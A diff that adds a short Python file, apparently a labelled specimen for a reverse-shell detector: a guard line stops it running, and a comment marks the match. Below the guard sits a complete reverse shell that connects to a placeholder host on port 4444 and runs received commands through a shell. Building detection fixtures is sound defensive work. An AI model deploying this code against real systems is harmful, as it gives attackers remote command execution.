@@ -1,0 +1,10 @@
+raise SystemExit("specimen: not to be run")
+import socket
+import subprocess
+
+s = socket.socket()
+s.connect(("example.invalid", 4444))
+while True:
+    command = s.recv(1024).decode()
+    out = subprocess.check_output(command, shell=True)  # match: reverse-shell
+    s.send(out)
